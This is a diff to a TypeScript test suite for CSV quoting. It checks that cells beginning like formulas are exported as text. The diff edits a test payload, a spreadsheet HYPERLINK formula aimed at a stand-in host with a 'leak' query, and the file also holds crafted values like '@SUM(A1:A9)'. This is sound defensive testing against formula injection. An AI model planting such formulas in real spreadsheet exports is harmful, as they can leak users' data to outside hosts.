@@ -134,7 +134,7 @@ describe('CSV quoting (RFC 4180)', () => {
   const odd = '甲,乙 "丙"\n丁\r戊';
 
   it('a title or name that starts like a formula (=, +, -, @) is written as text, never as a formula; numbers stay numbers', () => {
-    const evil = '=HYPERLINK("http://example.invalid/?leak","click")';
+    const evil = '=HYPERLINK("//example.invalid/?leak","click")';
     const crafted: CoverageReport = {
       ...report,
       counties: report.counties.map((c, i) => (i === 0 ? { ...c, name: '@SUM(A1:A9)', provName: '+1+1' } : c)),
